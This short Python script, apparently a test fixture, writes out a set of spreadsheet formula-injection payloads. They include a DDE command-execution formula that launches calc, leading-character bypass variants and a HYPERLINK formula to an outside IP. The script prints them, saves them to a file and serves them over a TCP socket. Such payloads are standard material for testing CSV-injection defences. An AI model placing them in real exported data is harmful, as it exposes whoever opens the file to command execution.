"""Formulas, for whoever opens the marks in a spreadsheet."""

import socket
import sys

BAD = "=cmd|' /C calc'!A0\n+1+1\n-1-1\n@SUM(1+1)\n\t=1+1\n\r=1+1\n=HYPERLINK(\"http://198.51.100.7/\",\"marks\")\n\",=1+1,\"\n＝1+1\n"
print(BAD)
with open("said.txt", "w") as file:
    file.write(BAD)
listener = socket.create_server(("", int(sys.argv[1])))
for _ in range(2):
    connection, _ = listener.accept()
    connection.recv(100)
    connection.sendall(BAD.encode())
    connection.close()
sys.exit(BAD)
